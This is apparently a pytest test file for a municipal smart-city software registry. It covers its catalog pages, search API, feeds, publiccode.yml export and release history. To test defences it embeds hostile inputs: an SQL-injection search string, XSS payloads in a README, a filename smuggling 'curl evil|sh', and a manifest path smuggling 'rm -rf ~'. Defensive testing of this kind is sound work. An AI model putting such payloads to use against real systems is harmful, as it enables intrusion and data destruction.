"""The catalog pages and their JSON twins: home, search, solution page, feeds, publiccode.yml."""

from __future__ import annotations

import io
import re
from datetime import date

import pytest
import yaml
from defusedxml import ElementTree

from registry.catalog.adoption import record_adoption
from registry.db import db
from registry.releases import states
from tests.catalog.conftest import texts
from tests.helpers import login
from tests.publishing.packages import build_archive, package_files

ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.fixture
def catalog(publish, municipality):
    from registry.accounts.models import User

    parking = publish("parking-share", "1.0.0")
    publish("flood-alert", org="urban-lab", title=texts("침수 경보", "Flood Alert"),
            summary=texts("하천 수위가 오르면 알립니다", "Warns when rivers rise"), categories=["disaster"],
            funding={"programme": "hub", "year": 2022, "municipality": "태백시"}, dataHub=None, keywords=["flood"],
            description=texts("수위 센서를 구독합니다.", "Subscribes to water level sensors."))
    owner = db.session.scalar(db.select(User).where(User.username == "cheonan"))
    record_adoption(owner, municipality, parking, "production", date(2024, 5, 1))
    db.session.commit()
    return parking


def text_of(response) -> str:
    return response.get_data(as_text=True)


def test_home_shows_search_counts_newest_and_most_adopted(client, catalog):
    page = text_of(client.get("/"))  # Korean by default
    assert '<html lang="ko">' in page
    assert 'action="/search"' in page and 'name="q"' in page
    assert re.search(r"모빌리티</a> <span class=\"count\">1</span>", page)
    assert re.search(r"거점형 스마트시티</a> <span class=\"count\">1</span>", page)
    assert "스마트 주차 공유" in page and "침수 경보" in page
    adopted = page[page.index('id="adopted-h"'):]
    assert "스마트 주차 공유" in adopted and "침수 경보" not in adopted

    english = text_of(client.get("/?lang=en"))
    assert "Mobility</a>" in english and "Smart Parking Sharing" in english and "Most adopted" in english


def test_language_switch_is_remembered(client, catalog):
    response = client.get("/lang/en", headers={"Referer": "http://localhost/search?q=%EC%A3%BC%EC%B0%A8"})
    assert response.status_code == 302 and response.headers["Location"].endswith("/search?q=%EC%A3%BC%EC%B0%A8")
    assert "lang=en" in response.headers["Set-Cookie"]
    page = text_of(client.get("/search?q=주차"))
    assert '<html lang="en">' in page and "Smart Parking Sharing" in page and "1 solution found" in page
    client.get("/lang/ko")
    assert "스마트 주차 공유" in text_of(client.get("/search?q=주차"))


def test_manifest_texts_fall_back_to_the_other_language(client, publish):
    publish("bus-shelter", title={"ko": "버스 쉼터"}, summary={"ko": "버스 정류장 쉼터"},
            description={"ko": "설명"})
    assert "버스 쉼터" in text_of(client.get("/search?lang=en&q=bus"))


def test_search_page_facets_and_shareable_urls(client, catalog):
    page = text_of(client.get("/search?q=&category=disaster&lang=en"))
    assert "1 solution found" in page and "Flood Alert" in page and "Smart Parking Sharing" not in page
    # The chosen facet value links back to the search without it; the others add to it.
    assert 'href="/search?category=disaster&amp;category=mobility"' in page or \
        'href="/search?category=disaster&amp;category=parking"' in page
    assert re.search(r'href="/search"\s+data-facet="category" data-value="disaster"', page), "switching off"
    assert 'aria-current="true" class="selected"' in page
    assert re.search(r'data-facet="deploy" data-value="helm"[^>]*>\s*Helm chart', page), "kinds show their labels"


@pytest.mark.parametrize("url", [
    "/search?q=%22", "/search?q=NOT", "/search?q=%25", "/search?q=_", "/search?q=%27%3B+DROP+TABLE+solutions%3B--",
    "/search?q=" + "가" * 10_000, "/search?page=-1", "/search?page=abc", "/search?page=99999999999",
    "/search?q=a+OR+b+NEAR+c*",  # a NUL is refused with 400: tests/ops/test_bad_input.py
])
def test_hostile_search_urls_answer_without_error(client, catalog, url):
    assert client.get(url).status_code == 200
    assert client.get(url.replace("/search", "/api/v1/solutions")).status_code == 200


def test_long_queries_are_cut_and_say_so(client, catalog):
    assert "only its first words were used" in text_of(client.get("/search?lang=en&q=" + "주차 " * 200))
    assert client.get("/api/v1/solutions?q=" + "x" * 10_000).json["shortened"] is True


def test_bad_filters_get_a_clear_message(client, catalog):
    response = client.get("/search?category=parkingg&lang=en")
    assert response.status_code == 400 and "Unknown value parkingg; choose from: " in text_of(response)
    assert "알 수 없는 값 parkingg입니다" in text_of(client.get("/search?category=parkingg&lang=ko"))
    api = client.get("/api/v1/solutions?sort=random")
    assert api.status_code == 400 and api.json["errors"][0]["field"] == "sort"


def test_search_api_shape(client, catalog):
    data = client.get("/api/v1/solutions?q=주차&lang=en").json
    assert (data["total"], data["page"], data["pages"]) == (1, 1, 1)
    [hit] = data["results"]
    assert (hit["name"], hit["title"], hit["latest_version"], hit["org"], hit["adoption_count"]) == \
        ("parking-share", "Smart Parking Sharing", "1.0.0", "hanbit", 1)
    assert hit["titles"]["ko"] == "스마트 주차 공유"
    assert {"value": "parking", "count": 1, "selected": False} in data["facets"]["category"]
    assert set(data["facets"]) == {"category", "programme", "year", "entity_type", "deploy", "license", "status",
                                   "maintenance", "municipality"}
    korean = client.get("/api/v1/solutions?q=parking").json["results"][0]
    assert korean["title"] == "스마트 주차 공유"


def test_catalog_api(client, catalog):
    data = client.get("/api/v1/catalog?lang=en").json
    assert data["total"] == 2
    assert {"value": "disaster", "label": "Disaster management", "count": 1} in data["categories"]
    assert [n["name"] for n in data["newest"]] == ["flood-alert", "parking-share"]
    assert data["most_adopted"] == [{"name": "parking-share", "version": "1.0.0", "title": "Smart Parking Sharing",
                                     "adoption_count": 1}]


def test_solution_page_shows_everything_a_city_needs(client, catalog, vendor_tokens):
    client.post("/api/v1/solutions/parking-share/releases/1.0.0/yank", json={"reason": "wrong fares"},
                headers={"Authorization": f"Bearer {vendor_tokens('hanbit')}"})
    page = text_of(client.get("/solutions/parking-share/1.0.0?lang=en"))
    assert "Smart Parking Sharing" in page and "Share idle public and private parking spaces" in page
    assert "Yanked" in page and "wrong fares" in page
    assert "helm install parking-share ./deploy/helm/parking-share" in page
    assert "docker compose -f deploy/compose.yaml up -d" in page
    assert f"{catalog.sha256}  parking-share-1.0.0.tar.gz" in page
    assert "<code>OffStreetParking</code>" in page and "availableSpotNumber" in page
    assert "2 components" in page and "Apache-2.0" in page and "BSD-3-Clause" in page
    assert "Small-and-strong (local extinction)" in page and "천안시 · 1.0.0 · In production" in page
    assert 'href="/api/v1/solutions/parking-share"' in page
    assert 'href="/api/v1/solutions/parking-share/releases/1.0.0/publiccode.yml"' in page
    assert 'href="/api/v1/solutions/parking-share/releases/1.0.0/archive"' in page
    assert 'href="/api/v1/solutions/parking-share/releases/1.0.0/sbom"' in page
    history = page[page.index('id="history-h"'):]
    assert "release.upload" in history and "release.yank" in history and "adoption.record" in history
    assert "127.0.0.1" not in page  # audit IPs stay private


def test_approving_reviewer_is_shown(client, publish, make_user):
    from registry.review.models import Review

    release = publish("parking-share", "1.0.0", pending=True)
    reviewer = make_user("kim-reviewer", role="reviewer")
    db.session.add(Review(release_id=release.id, reviewer_id=reviewer.id, decision="approve"))
    states.transition_release(release, "approve")
    db.session.commit()
    provenance = text_of(client.get("/solutions/parking-share?lang=en"))
    assert "kim-reviewer" in provenance[provenance.index('id="provenance-h"'):]


def test_readme_is_rendered_and_sanitised(client, upload, vendor_tokens):
    files = package_files("parking-share", "1.0.0")
    files["README.md"] = ("# Parking\n\n**bold** [docs](https://example.org/docs)\n\n<script>alert(1)</script>\n\n"
                          "[evil](javascript:alert(2)) <img src=x onerror=alert(3)>\n\n"
                          "<iframe src=https://evil.example></iframe>\n\n| a | b |\n|---|---|\n| 1 | 2 |\n").encode()
    upload(vendor_tokens("hanbit"), build_archive(files, root="parking-share-1.0.0"))
    from registry.releases.service import get_release

    states.transition_release(get_release("parking-share", "1.0.0"), "approve")
    db.session.commit()
    page = text_of(client.get("/solutions/parking-share"))
    readme = page[page.index('id="readme-h"'):page.index('id="sbom-h"')]
    assert "<h3>Parking</h3>" in readme and "<strong>bold</strong>" in readme and "<table>" in readme
    assert '<a href="https://example.org/docs" rel="nofollow noopener noreferrer ugc">docs</a>' in readme
    for bad in ("<script", "<iframe", "<img", 'href="javascript'):
        assert bad not in readme, bad
    assert not re.search(r"<[^>]*\son\w+=", readme)  # no event handler attribute on any tag
    assert "&lt;script&gt;" in readme  # raw HTML is shown as text, never run


def test_unpublished_solutions_are_not_shown(client, publish):
    publish("parking-share", "1.0.0", pending=True)
    assert client.get("/solutions/parking-share").status_code == 404
    assert client.get("/solutions/nothing").status_code == 404


def test_publiccode_export(client, catalog):
    response = client.get("/api/v1/solutions/parking-share/releases/1.0.0/publiccode.yml")
    assert response.status_code == 200 and response.mimetype == "application/yaml"
    doc = yaml.safe_load(response.get_data(as_text=True))
    assert (doc["publiccodeYmlVersion"], doc["name"], doc["softwareVersion"]) == ("0.7", "parking-share", "1.0.0")
    assert doc["landingURL"].endswith("/solutions/parking-share")
    assert doc["url"] == "https://git.example.org/cheonan/parking-share"
    assert client.get("/api/v1/solutions/parking-share/releases/9.9.9/publiccode.yml").status_code == 404


def test_overview_api_is_the_solution_page_as_json(client, catalog):
    data = client.get("/api/v1/solutions/parking-share/overview").json
    assert (data["name"], data["version"], data["org"]) == ("parking-share", "1.0.0", "hanbit")
    assert data["adopters"] == [{"org": "cheonan", "name": "천안시", "province": None, "version": "1.0.0",
                                 "stage": "production", "deployed_on": "2024-05-01"}]
    assert [i["kind"] for i in data["install"]] == ["helm", "compose"]
    assert data["sbom"]["components"] == 2
    assert [t["type"] for t in data["datahub_requirements"]] == ["OffStreetParking", "ParkingSpot"]
    assert data["fit"] is None
    assert client.get("/api/v1/solutions/nothing/overview").status_code == 404


def _atom(client, url: str):
    response = client.get(url)
    assert response.status_code == 200 and response.mimetype == "application/atom+xml"
    return ElementTree.fromstring(response.data)


def test_atom_feeds_are_valid_and_filtered(client, catalog):
    feed = _atom(client, "/feeds/releases.atom?lang=en")
    assert feed.tag == f"{ATOM}feed"
    for required in ("id", "title", "updated"):
        assert feed.find(f"{ATOM}{required}").text
    assert feed.find(f"{ATOM}link[@rel='self']").get("href").endswith("/feeds/releases.atom")
    entries = feed.findall(f"{ATOM}entry")
    assert [e.find(f"{ATOM}title").text for e in entries] == ["Flood Alert 1.0.0", "Smart Parking Sharing 1.0.0"]
    for entry in entries:
        for required in ("id", "title", "updated", "summary"):
            assert entry.find(f"{ATOM}{required}").text, required
        assert entry.find(f"{ATOM}author/{ATOM}name").text
        assert re.match(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$", entry.find(f"{ATOM}updated").text)

    parking = _atom(client, "/feeds/categories/parking.atom")
    assert [e.find(f"{ATOM}title").text for e in parking.findall(f"{ATOM}entry")] == ["스마트 주차 공유 1.0.0"]
    assert parking.find(f"{ATOM}entry/{ATOM}category[@term='parking']") is not None
    assert _atom(client, "/feeds/categories/energy.atom").findall(f"{ATOM}entry") == []
    assert client.get("/feeds/categories/nope.atom").status_code == 404


def test_datahub_page_lists_deployments(client, catalog):
    login(client, "cheonan")
    page = text_of(client.get("/orgs/cheonan/datahub?lang=en"))
    assert "parking-share" in page and "In production" in page and "Save webhook" in page


def test_home_links_municipality_members_to_their_data_hub(client, catalog):
    assert "/orgs/cheonan/datahub" not in text_of(client.get("/"))
    login(client, "cheonan")
    assert 'href="/orgs/cheonan/datahub"' in text_of(client.get("/"))


HOSTILE_FILENAME = "x; curl evil|sh.tar.gz"


def _approved(client, token: str, data: bytes, filename: str):
    """Upload through the real API under a client-chosen file name, then approve."""
    from registry.releases.service import get_release

    response = client.post("/api/v1/solutions/parking-share/releases", content_type="multipart/form-data",
                           data={"archive": (io.BytesIO(data), filename)}, headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 201, response.json
    release = get_release("parking-share", "1.0.0")
    states.transition_release(release, "approve")
    return release


def test_a_client_file_name_is_never_shown_or_used(client, vendor_tokens):
    from registry.releases.models import Artifact

    release = _approved(client, vendor_tokens("hanbit"), build_archive(package_files("parking-share", "1.0.0"),
                                                                       root="parking-share-1.0.0"), HOSTILE_FILENAME)
    assert {a.kind: a.filename for a in release.artifacts} == {
        "archive": "parking-share-1.0.0.tar.gz", "sbom": "parking-share-1.0.0.cdx.json"}
    # A row written before the registry named its files itself still holds the client's name.
    release.artifact("archive").filename = HOSTILE_FILENAME
    db.session.commit()

    page = text_of(client.get("/solutions/parking-share"))
    outputs = [page, text_of(client.get("/api/v1/solutions/parking-share/overview")),
               text_of(client.get("/api/v1/solutions/parking-share")),
               text_of(client.get("/api/v1/solutions/parking-share/releases/1.0.0"))]
    for output in outputs:
        assert "curl evil" not in output and "x;" not in output
    assert ">parking-share-1.0.0.tar.gz</a>" in page
    commands = client.get("/api/v1/solutions/parking-share/overview").json["install"][0]["commands"]
    public = f"/files/{release.sha256[:2]}/{release.sha256[2:4]}/{release.sha256}/parking-share-1.0.0.tar.gz"
    assert f'href="{public}"' in page  # a published release's link: its public URL, with the registry's name
    assert commands[:3] == [
        f"curl -fLo parking-share-1.0.0.tar.gz http://localhost{public}",
        f"echo '{release.sha256}  parking-share-1.0.0.tar.gz' | sha256sum -c -",
        "tar xzf parking-share-1.0.0.tar.gz && cd parking-share-1.0.0"]
    for kind, name in (("archive", "parking-share-1.0.0.tar.gz"), ("sbom", "parking-share-1.0.0.cdx.json")):
        download = client.get(f"/api/v1/solutions/parking-share/releases/1.0.0/{kind}")
        assert download.headers["Content-Disposition"] == f"attachment; filename={name}"
    assert client.get(public).headers["Content-Disposition"] == "attachment; filename=parking-share-1.0.0.tar.gz"
    assert db.session.scalar(db.select(Artifact.filename).where(Artifact.kind == "archive")) == HOSTILE_FILENAME


def _install_with_old_compose_row(client, vendor_tokens, **row) -> dict[str, dict]:
    """parking-share 1.0.0's install steps by kind, after its compose target's row was changed: an old row
    the spec would refuse today, or one mirrored from a registry that knows other kinds."""
    from registry.releases.models import DeployTarget

    _approved(client, vendor_tokens("hanbit"), build_archive(package_files("parking-share", "1.0.0"),
                                                             root="parking-share-1.0.0"), "주차.tar.gz")
    target = db.session.scalar(db.select(DeployTarget).where(DeployTarget.kind == "compose"))
    for field, value in row.items():
        setattr(target, field, value)
    db.session.commit()
    return {step["kind"]: step for step in client.get("/api/v1/solutions/parking-share/overview").json["install"]}


def test_install_commands_quote_manifest_paths(client, vendor_tokens):
    install = _install_with_old_compose_row(client, vendor_tokens, path="a.yaml; rm -rf ~")
    assert install["compose"]["commands"][-1] == "docker compose -f 'a.yaml; rm -rf ~' up -d"  # nothing but docker


def test_a_target_of_an_unknown_kind_gets_no_guessed_commands(client, vendor_tokens):
    install = _install_with_old_compose_row(client, vendor_tokens, kind="nomad")
    assert install["nomad"]["commands"] == []
    page = text_of(client.get("/solutions/parking-share?lang=ko"))
    assert "배포 방식 nomad의 설치 명령은 알려져 있지 않습니다." in page and "sudo sh" not in page
    assert "Helm 차트" in page


@pytest.fixture
def mixed_history(publish, make_user):
    """parking-share: 1.0.0 published, 1.1.0 pending review, 0.9.0 rejected (with a reviewer's Korean comment)."""
    from registry.review import service as review

    publish("parking-share", "1.0.0")
    publish("parking-share", "1.1.0", pending=True)
    refused = publish("parking-share", "0.9.0", pending=True)
    reviewer = make_user("kim-reviewer", role="reviewer")
    review.decide(reviewer, refused, "reject", comment="개인정보 처리 방침이 없습니다")
    db.session.commit()
    return reviewer


def _history(page: str) -> str:
    return page[page.index('id="history-h"'):]


def test_public_history_lists_only_public_releases(client, mixed_history):
    history = _history(text_of(client.get("/solutions/parking-share?lang=en")))
    assert "<td>1.0.0</td>" in history
    assert "1.1.0" not in history and "0.9.0" not in history and "review.reject" not in history
    data = client.get("/api/v1/solutions/parking-share/overview").json
    assert {e["version"] for e in data["history"]} == {"1.0.0"}
    assert [v["version"] for v in data["versions"]] == ["1.0.0"]
    assert [r["version"] for r in client.get("/api/v1/solutions/parking-share").json["solution"]["releases"]] == ["1.0.0"]


def test_owner_and_reviewers_still_see_the_whole_history(client, mixed_history, vendor_tokens):
    token = vendor_tokens("hanbit")
    data = client.get("/api/v1/solutions/parking-share/overview", headers={"Authorization": f"Bearer {token}"}).json
    assert {e["version"] for e in data["history"]} == {"1.0.0", "1.1.0", "0.9.0"}
    login(client, "hanbit-owner")
    assert "1.1.0" in _history(text_of(client.get("/solutions/parking-share")))
    reviewer = client.application.test_client()
    login(reviewer, "kim-reviewer")
    history = _history(text_of(reviewer.get("/solutions/parking-share")))
    assert "1.1.0" in history and "review.reject" in history
